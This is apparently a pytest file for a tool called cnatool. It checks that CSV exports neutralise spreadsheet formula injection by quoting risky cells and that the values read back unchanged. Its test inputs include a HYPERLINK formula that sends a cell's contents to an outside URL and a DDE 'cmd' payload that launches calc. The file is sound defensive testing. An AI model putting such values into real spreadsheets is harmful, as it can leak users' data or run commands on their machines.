"""CSV in spreadsheets: text that would be computed is not, and comes back as it was."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import numpy as np
import polars as pl
import pytest
from PIL import Image
from support.networks import mlp, saved
from typer.testing import CliRunner

import cnatool
from cnatool._util.spreadsheets import from_spreadsheet, to_spreadsheet, write_csv
from cnatool.cli.app import app

_FORMULAS = [
    '=HYPERLINK("http://e.org?"&A1,"x")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", "\tx", "\rx", " =1", "\xa0=1", "\ufeff=1", "\x00=1", "=", "-", "-x",
    "+inf", "＝1", "＋1", "－1", "＠x", "'=1", "''=1",
]  # fmt: skip
_TAGS = ("=1+1", "+cmd", "-x", "@a", "'=q")
_HARMLESS = [
    "-1",
    "+1",
    "-0.5",
    "-1e-3",
    "+.5",
    "a=1",
    "x-1",
    "",
    "'a'",
    "β",
    "1 + 1",
    "it's",
    "#1",
]


def harmless(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for text or a number, written out without patterns."""
    bare = cell.lstrip().lstrip("\ufeff\xa0\0 ")
    if cell[:1] in tuple("\t\r\n") or bare[:1] in tuple("=+-@＝＋－＠"):
        try:
            return math.isfinite(float(cell))
        except ValueError:
            return False
    return True


@pytest.mark.parametrize("cell", _FORMULAS)
def test_formulas_get_a_quote_as_cells_and_as_headers(cell: str) -> None:
    frame = pl.DataFrame({cell: [cell, None, "x"], "n": [-1.5, None, math.nan]})
    safe = to_spreadsheet(frame)
    assert safe.columns == ["'" + cell, "n"]
    assert safe["'" + cell].to_list() == ["'" + cell, None, "x"]
    assert safe["n"].equals(frame["n"])
    assert from_spreadsheet(safe).equals(frame)
    assert from_spreadsheet(safe).columns == frame.columns


@pytest.mark.parametrize("cell", _HARMLESS)
def test_other_texts_and_plain_numbers_stay(cell: str) -> None:
    frame = pl.DataFrame({"a": [cell]})
    assert to_spreadsheet(frame).equals(frame)
    assert from_spreadsheet(frame).equals(frame)


def test_every_cell_is_harmless_in_a_file_and_comes_back() -> None:
    rng = np.random.default_rng(0)
    signs = list("=+-@\t\r\n '\"a1.e;,|＝\xa0\ufeff\u202e")
    cells = ["".join(rng.choice(signs, rng.integers(1, 7))) for _ in range(5000)]
    frame = pl.DataFrame({"text": cells, "kind": pl.Series(cells, dtype=pl.Categorical)})
    held = io.BytesIO()
    write_csv(frame, held)
    header, *rows = csv.reader(io.StringIO(held.getvalue().decode(), newline=""))
    assert header == ["text", "kind"]
    assert all(map(harmless, (cell for row in rows for cell in row)))
    back = from_spreadsheet(pl.DataFrame(rows, ["text", "kind"], orient="row"))
    assert back["text"].to_list() == cells
    assert back["kind"].to_list() == cells


def test_numbers_are_never_text(tmp_path: Path) -> None:
    frame = pl.DataFrame({"x": [-1.5, -math.inf, -0.0], "n": [-3, 4, 5], "s": ["-x", "b", "c"]})
    write_csv(frame, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text() == "x,n,s\n-1.5,-3,'-x\n-inf,4,b\n-0.0,5,c\n"


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_other_separators_begin_no_cell(separator: str, tmp_path: Path) -> None:
    write_csv(pl.DataFrame({"s": [f"a{separator}=1+1"], "n": [1]}), tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.reader(file, delimiter=separator))
    assert all(harmless(cell) for row in rows for cell in row)


def _command(*words: object) -> str:
    result = CliRunner().invoke(app, list(map(str, words)))
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("here")
    rng = np.random.default_rng(0)
    (folder / "data").mkdir()
    (folder / "stores").mkdir()
    for name in ("train", "test"):
        x = rng.integers(0, 256, (30, 64), np.uint8)
        np.savez(folder / "data" / f"{name}.npz", x=x, y=rng.integers(0, 10, 30))
    for number, tag in enumerate(_TAGS):
        saved(mlp(seed=number), folder / "net.onnx")
        store = folder / "stores" / f"={number}.zarr"
        tags = {"arch": tag, "step": str(-number)}
        cnatool.dump(folder / "net.onnx", folder / "data", store, tags=tags)
    return folder / "stores"


def _harmless_files(folder: Path) -> list[Path]:
    found = sorted(folder.glob("*.csv"))
    for path in found:
        with path.open(newline="") as file:
            assert all(harmless(cell) for row in csv.reader(file) for cell in row), path
    return found


def test_a_study_can_be_read_again_from_its_own_csv(stores: Path, tmp_path: Path) -> None:
    out, again = tmp_path / "out", tmp_path / "again"
    _command("study", stores, "-o", out, "--resamples", 0)
    _command("study", "--from", out / "networks.csv", "-o", again, "--resamples", 0)
    first, second = (pl.read_parquet(folder / "networks.parquet") for folder in (out, again))
    assert first["tag.arch"].to_list() == list(_TAGS)
    assert second["tag.arch"].equals(first["tag.arch"])
    assert second["id"].equals(first["id"])
    assert len(_harmless_files(out)) >= 5
    table = pl.read_csv(out / "networks.csv")
    assert table["id"][0] == "'=0"
    assert table["train.cna"].dtype == pl.Float64
    assert table["tag.step"].to_list() == [0, -1, -2, -3, -4]


@pytest.mark.parametrize("command", ["trajectory", "landscape"])
def test_folders_of_checkpoints(command: str, stores: Path, tmp_path: Path) -> None:
    small = ("--grid", 2, "--samples", 20) if command == "landscape" else ()
    _command(command, stores, "--order", "step", "-o", tmp_path, *small)
    assert _harmless_files(tmp_path)


def test_samples(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    for name in ("=1", "+a", "-b"):
        (tmp_path / "p" / name).mkdir(parents=True)
        for number in range(4):
            pixels = rng.integers(0, 256, (8, 8), np.uint8)
            Image.fromarray(pixels).save(tmp_path / "p" / name / f"{number}.png")
    saved(mlp(), tmp_path / "net.onnx")
    cnatool.dump(tmp_path / "net.onnx", tmp_path / "p", tmp_path / "net.zarr")
    for ending in ("csv", "parquet"):
        _command("score", tmp_path / "net.zarr", "--samples", tmp_path / f"s.{ending}")
    assert _harmless_files(tmp_path)
    text, whole = pl.read_csv(tmp_path / "s.csv"), pl.read_parquet(tmp_path / "s.parquet")
    assert whole["id"].to_list() == [f"{c}/{n}.png" for c in ("+a", "-b", "=1") for n in range(4)]
    assert text["id"].to_list() == ["'" + name for name in whole["id"]]
    np.testing.assert_array_equal(text["alpha"].to_numpy(), whole["alpha"].to_numpy())


def test_csv_is_written_in_one_place() -> None:
    package = Path(cnatool.__file__).parent
    found = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if re.search(r"\.(write|sink)_csv\b|csv\.(writer|DictWriter)", path.read_text("utf-8"))
    }
    assert found == {"_util/spreadsheets.py"}
